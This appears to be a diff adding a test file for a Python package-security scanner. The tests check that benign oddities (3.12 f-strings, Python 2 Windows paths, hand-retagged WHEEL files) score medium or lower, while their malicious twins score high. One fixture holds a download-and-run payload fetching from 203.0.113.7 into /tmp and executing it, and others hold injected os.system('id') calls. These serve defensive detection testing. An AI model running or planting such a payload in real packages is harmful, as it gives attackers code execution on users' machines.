@@ -1,0 +1,177 @@
+"""Shapes of popular releases that cried wolf on the tune-only popular corpora (round 8, the
+fourth and fifth rank bands) on the disguise and mismatch side, read as what they are (no
+project names), each beside its malicious twin that must stay high:
+
+* a triple-quoted Python 3.12 f-string that reuses its quote inside a field, which 3.11
+  reports on the line the string ends on, is read like the one-line kind;
+* a plain string holding a Windows path (``'C:\\Users\\...'``: a truncated ``\\U`` escape no
+  Python 3 compiles, Python 2's byte strings allow) marks Python 2 code: unread at medium;
+* a WHEEL file retagged by hand after the build (RECORD's hash left behind) that holds only
+  the spec's keys says where the wheel installs, not what runs.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_wheel, wheel_entries, zip_bytes
+
+HIGH = ("high", "critical")
+
+
+def _wheel(tmp_path, files, name="gizmo"):
+    tmp_path.mkdir(parents=True, exist_ok=True)
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))
+
+
+def _ids(res) -> set[str]:
+    return {t.id for t in res.threats if t.severity in HIGH}
+
+
+def _unread(res) -> list:
+    return [h for h in res.findings if h.capability == "scan.unread"]
+
+
+# A Python 3.12 module: a type alias, then a triple-quoted f-string whose field holds a string
+# with a backslash in the same quote style (PEP 701), which 3.11 rejects on the closing line.
+MULTILINE_FSTRING = b'''from textwrap import indent
+
+type Parts = list[str]
+
+
+def render(parts: Parts) -> str:
+    content = f"""
+        <table class=table>
+        {indent("\\n".join(parts), " " * 4)}
+        </table>
+        """
+    return content
+'''
+
+
+def test_a_multiline_312_fstring_is_read_and_later_lines_keep_their_numbers(tmp_path):
+    """The module parses on 3.11 after the f-string is blanked from the line it starts on:
+    nothing is unread, and a call after it is found on its own line."""
+    tail = b"\nimport os\nos.system('true')\n"
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_repr.py": MULTILINE_FSTRING + tail})
+    assert not _unread(res)
+    assert res.risk.level not in HIGH
+    spawn = [h for h in res.findings if h.capability == "process.spawn"]
+    assert [h.line for h in spawn] == [MULTILINE_FSTRING.count(b"\n") + 3]
+
+
+def test_a_payload_after_a_multiline_312_fstring_is_found(tmp_path):
+    """Read at last, the same module with a download-and-run after the f-string is judged on
+    that code: high."""
+    payload = (
+        b"\nimport os, urllib.request\n"
+        b"urllib.request.urlretrieve('http://203.0.113.7/x', '/tmp/x')\n"
+        b"os.system('chmod +x /tmp/x && /tmp/x')\n"
+    )
+    res = _wheel(
+        tmp_path,
+        {
+            "gizmo/__init__.py": b"from . import _repr\n",
+            "gizmo/_repr.py": MULTILINE_FSTRING + payload,
+        },
+    )
+    assert not _unread(res)
+    assert res.risk.level in HIGH
+
+
+def test_a_module_that_does_not_compile_around_a_multiline_fstring_stays_unread_high(tmp_path):
+    """A triple-quoted f-string followed by code that is no Python at all: still unread."""
+    broken = b'x = f"""\n{y}\n"""\ndef f(:\n    pass\n'
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/core.py": broken})
+    assert "disguise.unread" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+PY2_WINDOWS_PATH = b"""#!/usr/bin/python
+# coding: utf8
+import csv
+
+
+class Places(object):
+    def __init__(self, path):
+        self.rows = list(csv.reader(open(path)))
+
+
+if __name__ == '__main__':
+    places = Places('C:\\Users\\Admin\\Downloads\\JM\\JM.txt')
+    print places
+"""
+
+
+def test_a_windows_path_in_a_plain_string_is_python_2_code_unread_at_medium(tmp_path):
+    """'C:\\Users\\...' is a truncated \\U escape in every Python 3 and a plain byte string
+    in Python 2: the module runs on no Python 3, so it is unread at medium, not high. So are
+    the \\u and \\N forms."""
+    files = {
+        "gizmo/__init__.py": b"",
+        "gizmo/places.py": PY2_WINDOWS_PATH,
+        "gizmo/paths.py": b"HOME = 'C:\\users\\me'\nNOTE = 'see \\N here'\n",
+    }
+    res = _wheel(tmp_path, files)
+    unread = _unread(res)
+    assert {h.path for h in unread} == {"gizmo/places.py", "gizmo/paths.py"}
+    assert all(h.severity == "medium" for h in unread)
+    assert "Python 2" in unread[0].explanation
+    assert res.risk.level not in HIGH
+
+
+def test_other_bad_escapes_stay_unread_high(tmp_path):
+    """A truncated \\x escape is rejected by Python 2 as well, and an unknown \\N{NAME} may
+    be known to a later Python: neither says "old code", both stay unread high."""
+    for i, text in enumerate((b"KEY = 'ab\\x4'\n", b"SIGN = '\\N{NOT A REAL NAME}'\n")):
+        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/core.py": text})
+        assert [h.severity for h in _unread(res)] == ["high"]
+        assert "disguise.unread" in _ids(res)
+
+
+RETAGGED_WHEEL = (
+    b"Wheel-Version: 1.0\nGenerator: poetry-core 1.9.0\nRoot-Is-Purelib: false\n"
+    b"Tag: cp311-abi3-manylinux2014_x86_64"
+)
+
+
+def _retagged(tmp_path, wheel_text: bytes, module_tail: bytes = b""):
+    """A wheel whose RECORD holds real base64 digests of what was built, with WHEEL (and,
+    with ``module_tail``, a module) rewritten afterwards."""
+    module = b"def engine():\n    return 1\n"
+    entries = wheel_entries("gizmo", "1.0", {"gizmo/engine.py": module})
+    rows = []
+    for path, data in entries.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        rows.append(f"{path},sha256={digest},{len(data)}")
+    rows.append("gizmo-1.0.dist-info/RECORD,,")
+    entries["gizmo-1.0.dist-info/RECORD"] = ("\n".join(rows) + "\n").encode()
+    entries["gizmo-1.0.dist-info/WHEEL"] = wheel_text
+    entries["gizmo/engine.py"] = module + module_tail
+    tmp_path.mkdir(parents=True, exist_ok=True)
+    out = tmp_path / "gizmo-1.0-cp311-abi3-manylinux2014_x86_64.whl"
+    out.write_bytes(zip_bytes(entries))
+    return scan_artifact(open_artifact(out))
+
+
+def test_a_wheel_retagged_after_the_build_is_a_medium_record_mismatch(tmp_path):
+    """Only WHEEL differs from RECORD and it holds only the spec's keys: still listed, at
+    medium."""
+    res = _retagged(tmp_path, RETAGGED_WHEEL)
+    mismatches = [h for h in res.findings if h.capability == "install.record_mismatch"]
+    assert [(h.match, h.severity) for h in mismatches] == [("gizmo-1.0.dist-info/WHEEL", "medium")]
+    assert res.risk.level not in HIGH
+
+
+def test_a_wheel_file_with_foreign_lines_or_a_changed_module_stays_a_mismatch(tmp_path):
+    """A WHEEL that holds a line the spec does not know, or a module changed after the build
+    beside a retagged WHEEL, stays a high mismatch."""
+    odd = RETAGGED_WHEEL + b"\nimport os; os.system('id')\n"
+    res = _retagged(tmp_path / "a", odd)
+    assert "mismatch.record" in _ids(res)
+    res = _retagged(tmp_path / "b", RETAGGED_WHEEL, b"import os\nos.system('id')\n")
+    assert "mismatch.record" in _ids(res)
+    assert res.risk.level in HIGH
